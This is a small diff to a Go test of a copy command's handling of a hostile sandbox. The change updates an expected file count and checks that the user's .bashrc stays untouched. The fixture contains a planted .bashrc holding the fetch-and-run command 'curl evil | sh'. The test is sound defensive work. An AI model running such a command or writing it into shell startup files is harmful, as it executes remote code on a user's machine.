@@ -114,7 +114,7 @@ func TestCpHostileSandbox(t *testing.T) {
 			t.Fatalf("exit %d: %s", code, errOut)
 		}
 		got := tree(t, dir)
-		if got[".bashrc"] != "mine" || got["report.txt/.bashrc"] != "curl evil | sh" || len(got) != 5 {
+		if got[".bashrc"] != "mine" || got["report.txt/.bashrc"] != "curl evil | sh" || len(got) != 6 {
 			t.Errorf("the user's directory now holds %q, want .bashrc untouched and the rest under report.txt", got)
 		}
 		// Once more: report.txt exists now, and is not merged into.
